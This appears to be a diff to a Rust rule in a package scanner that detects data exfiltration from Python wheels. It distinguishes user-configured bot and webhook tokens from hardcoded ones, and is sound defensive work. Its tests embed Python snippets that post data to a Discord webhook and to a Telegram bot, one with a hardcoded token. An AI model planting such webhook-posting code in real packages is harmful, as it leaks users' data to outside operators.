@@ -183,6 +183,12 @@ impl Rule for Exfiltration {
                     // A library fetching from a bot API (`getMe` to check a token it
                     // was handed) carries nothing out; posting or `sendMessage` does.
                     Stage::Call if !carries_data(sink) => Severity::Medium,
+                    // A bot or webhook whose credentials the user configures (`bot{TOKEN}` read
+                    // from the environment) is the user's own channel; a stealer carries its
+                    // own to reach its operator.
+                    Stage::Call if endpoint == Endpoint::Webhook && credentials_configured(code, sink) => {
+                        Severity::Medium
+                    }
                     Stage::Call => Severity::High,
                     Stage::Auxiliary => Severity::Low,
                 };
@@ -245,6 +251,33 @@ fn env_to_untrusted<'c>(
         }
         vocab::untrusted_destination(code, s).map(|h| (*s, h))
     })
+}
+
+/// A bot API or webhook URL whose credential part is not in the code
+/// (`https://api.telegram.org/bot{}/sendMessage`, `…/api/webhooks/{}`), in a
+/// module that reads its configuration from the environment.
+fn credentials_configured(code: &crate::inspect::python::PyFile, sink: &Call) -> bool {
+    let reads_environment = code
+        .calls
+        .iter()
+        .map(|c| c.name.as_str())
+        .chain(code.refs.iter().map(|r| r.name.as_str()))
+        .any(|n| matches!(n, "os.getenv" | "os.environ.get") || n.starts_with("os.environ["));
+    if !reads_environment {
+        return false;
+    }
+    let urls: Vec<&String> = sink
+        .arg_strs
+        .iter()
+        .filter(|a| vocab::endpoint_kind(a) == Some(Endpoint::Webhook))
+        .collect();
+    !urls.is_empty()
+        && urls.iter().all(|a| {
+            let l = a.to_ascii_lowercase();
+            ["/bot{}", "/webhooks/{}", "hooks.slack.com/services/{}"]
+                .iter()
+                .any(|p| l.contains(p))
+        })
 }
 
 /// Whether a request to an endpoint takes data with it: a send (`post`,
@@ -383,6 +416,18 @@ mod tests {
             "import requests\ndef report(d):\n    requests.post('https://discord.com/api/webhooks/1/x', json=d)\n";
         let f = check(&Exfiltration, Kind::Wheel, &[("pkg/util.py", post)]);
         assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
+    }
+
+    #[test]
+    fn a_bot_the_user_configures_is_a_note_when_called() {
+        // No error (held-out lt-f): notifications to the user's own bot, token from the environment.
+        let src = "import os, requests\nTOKEN = os.getenv('TELEGRAM_BOT_TOKEN')\ndef note(m):\n    url = f'https://api.telegram.org/bot{TOKEN}/sendMessage'\n    requests.post(url, json={'chat_id': 1, 'text': m})\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/run.py", src)]);
+        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Medium), "{f:?}");
+        // Error: the bot's token is in the code: the operator's channel.
+        let own = src.replace("os.getenv('TELEGRAM_BOT_TOKEN')", "'123456:AAbbCCdd'");
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/run.py", &own)]);
+        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::High), "{f:?}");
     }
 
     #[test]
